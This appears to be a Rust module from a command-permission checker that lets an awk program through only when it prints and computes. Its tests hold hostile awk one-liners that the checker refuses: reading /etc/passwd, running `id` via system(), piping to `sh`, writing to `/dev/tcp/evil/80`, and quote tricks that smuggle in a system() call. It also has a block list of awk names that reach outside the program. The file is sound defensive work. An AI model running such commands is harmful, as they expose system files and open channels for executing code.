//! `awk`: programs that print and compute. What runs programs, writes or chooses files, or reads the environment is not in it.
//!
//! Readers of awk differ on where a regular expression begins; where they may, the program is refused.

use super::arguments::Arguments;
use super::uses::Uses;

/// Names that reach out of the program.
const REACHING: [&str; 14] = [
    "system", "getline", "close", "fflush", "ENVIRON", "ARGV", "ARGC", "ARGIND", "PROCINFO", "SYMTAB",
    "FUNCTAB", "include", "load", "nextfile",
];

/// Words after which an operand begins, though they look like one.
const BEFORE_OPERAND: [&str; 9] = ["print", "printf", "return", "else", "do", "in", "delete", "exit", "case"];

/// Words after which readers differ on what a slash is.
const UNCLEAR: [&str; 14] = [
    "length", "next", "rand", "srand", "systime", "function", "func", "BEGIN", "END", "break", "continue",
    "switch", "default", "getline",
];

/// Looks at the program and its files.
pub fn refine<'a>(found: &Arguments<'a>, uses: &mut Uses<'a>) {
    let Some((program, files)) = found.operands.split_first() else {
        if !found.has(&["version"]) {
            uses.refuse("`awk` has no program");
        }
        return;
    };
    if let Err(why) = check(program.text) {
        uses.refuse(format!("the awk program {why}"));
    }
    for file in files {
        // `name=value` among the files is an assignment; it is judged as a path, too, which it never is.
        uses.value(super::table::Role::Read, file);
    }
}

/// Reads a program; the error says what is refused.
fn check(program: &str) -> Result<(), String> {
    let chars: Vec<char> = program.chars().collect();
    let mut reader = Reader { chars: &chars, at: 0, before: Before::Start, printing: false };
    while let Some(c) = reader.chars.get(reader.at) {
        reader.take(*c)?;
    }
    Ok(())
}

/// A program, and how far it is read.
struct Reader<'p> {
    chars: &'p [char],
    at: usize,
    before: Before,
    /// Inside of a statement that prints: there, `>` writes a file.
    printing: bool,
}

impl Reader<'_> {
    fn take(&mut self, c: char) -> Result<(), String> {
        match c {
            ' ' | '\t' => self.at += 1,
            // After a comma or an operator, what is printed goes on in the next line.
            '\n' => self.pass(1, Before::Operator),
            ';' | '{' | '}' => {
                self.printing = false;
                self.pass(1, Before::Operator);
            }
            '#' => self.at += self.length(|c| c != '\n'),
            '"' => {
                self.at = string_end(self.chars, self.at)?;
                self.before = Before::Operand;
            }
            '/' => self.slash()?,
            '|' if self.next(1) == Some('|') && self.next(2) != Some('&') => self.pass(2, Before::Operator),
            '|' => return Err("runs a program through `|`".to_owned()),
            '>' if self.printing => return Err("writes a file with `>`".to_owned()),
            '@' => return Err("calls or loads what is only known when it runs (`@`)".to_owned()),
            '\\' => return Err("has a backslash outside of texts and patterns".to_owned()),
            '\'' | '`' => return Err(format!("has `{c}`, which is nothing in awk")),
            ')' => self.pass(1, Before::Unclear),
            ']' => self.pass(1, Before::Operand),
            '+' | '-' if self.next(1) == Some(c) => self.pass(2, Before::Unclear),
            c if c.is_ascii_alphabetic() || c == '_' => self.word()?,
            c if c.is_ascii_digit() || c == '.' => {
                self.pass(self.length(|c| c.is_ascii_alphanumeric() || c == '.'), Before::Operand);
            }
            c if c.is_ascii_punctuation() => self.pass(1, Before::Operator),
            c => return Err(format!("has `{c}` outside of texts and patterns")),
        }
        Ok(())
    }

    fn pass(&mut self, count: usize, before: Before) {
        self.at += count;
        self.before = before;
    }

    fn next(&self, count: usize) -> Option<char> {
        self.chars.get(self.at + count).copied()
    }

    /// How many of the next characters are such.
    fn length(&self, is_such: impl Fn(char) -> bool) -> usize {
        self.chars[self.at..].iter().take_while(|c| is_such(**c)).count()
    }

    fn slash(&mut self) -> Result<(), String> {
        match self.before {
            Before::Operand => self.pass(1, Before::Operator),
            Before::Start | Before::Operator => {
                self.at = expression_end(self.chars, self.at)?;
                self.before = Before::Operand;
            }
            Before::Unclear => {
                return Err("has a `/` that is a division to some readers and begins a pattern to others; put it in parentheses another way".to_owned());
            }
        }
        Ok(())
    }

    fn word(&mut self) -> Result<(), String> {
        let length = self.length(|c| c.is_ascii_alphanumeric() || c == '_');
        let word: String = self.chars[self.at..self.at + length].iter().collect();
        if REACHING.contains(&word.as_str()) {
            return Err(format!("uses `{word}`, which reaches out of the program"));
        }
        self.printing |= matches!(word.as_str(), "print" | "printf");
        let before = match word.as_str() {
            word if UNCLEAR.contains(&word) => Before::Unclear,
            word if BEFORE_OPERAND.contains(&word) => Before::Operator,
            _ => Before::Operand,
        };
        self.pass(length, before);
        Ok(())
    }
}

/// What stands before a slash.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Before {
    Start,
    Operand,
    Operator,
    Unclear,
}

fn string_end(chars: &[char], start: usize) -> Result<usize, String> {
    let mut at = start + 1;
    while let Some(c) = chars.get(at) {
        match c {
            '\\' if chars.get(at + 1) == Some(&'\n') => break,
            '\\' => at += 1,
            '"' => return Ok(at + 1),
            '\n' => break,
            _ => {}
        }
        at += 1;
    }
    Err("has a text without an end".to_owned())
}

fn expression_end(chars: &[char], start: usize) -> Result<usize, String> {
    let (mut at, mut bracket) = (start + 1, false);
    while let Some(c) = chars.get(at) {
        match c {
            '\\' => at += 1,
            '\n' => break,
            '"' if bracket => return Err("has quotes inside the brackets of a pattern".to_owned()),
            '/' if bracket => {
                return Err(
                    "has `/` inside the brackets of a pattern, which readers take differently".to_owned()
                );
            }
            '/' => return Ok(at + 1),
            '[' => bracket = true,
            ']' => bracket = false,
            _ => {}
        }
        at += 1;
    }
    Err("has a pattern without an end".to_owned())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn printing_and_computing_are_known() {
        for program in [
            "{print $1}",
            "NR>1 && $3 > 100 {print $1, $2}",
            "/foo|bar/ {print; n++} END {print n}",
            "BEGIN{FS=\",\"} {s+=$2} END{print s/NR}",
            "{ if ($1 > 5) print $2 }",
            "length($0) > 80",
            "!seen[$0]++",
            "{print $1 \"|\" $2}",
            "$1 ~ /^a/ || $2 == \"x\"",
            "{printf \"%s\\n\", $1}",
            "NR==5,NR==10",
            "{a[$1]+=$2} END {for (k in a) print k, a[k]}",
        ] {
            assert_eq!(check(program), Ok(()), "{program}");
        }
    }

    #[test]
    fn reaching_out_is_refused() {
        for program in [
            "BEGIN{system(\"id\")}",
            "{print > \"out\"}",
            "{print >> \"out\"}",
            "{print | \"sh\"}",
            "BEGIN{\"id\" | getline}",
            "BEGIN{while ((getline l < \"/etc/passwd\") > 0) print l}",
            "BEGIN{print ENVIRON[\"HOME\"]}",
            "BEGIN{ARGV[1]=\"/etc/passwd\"; ARGC=2}",
            "@load \"filefuncs\"",
            "BEGIN{f=\"system\"; @f(\"id\")}",
            "{if (x) /\"/; system(\"id\") #\"\n}",
            "{print $1, $2 > \"a\" $1}",
            "{ printf \"x\" > \"/dev/tcp/evil/80\" }",
            "BEGIN { print \"x\" |& \"sh\" }",
            "BEGIN{print(1)>\"x\"}",
            "/[/]\"/ {system(\"id\")}",
            "{print $1,\n$2 > \"x\"}",
            "{print 1 ||\n2 > \"x\"}",
            "length /\"/; system(\"id\") #\"",
        ] {
            assert!(check(program).is_err(), "{program}");
        }
    }
}
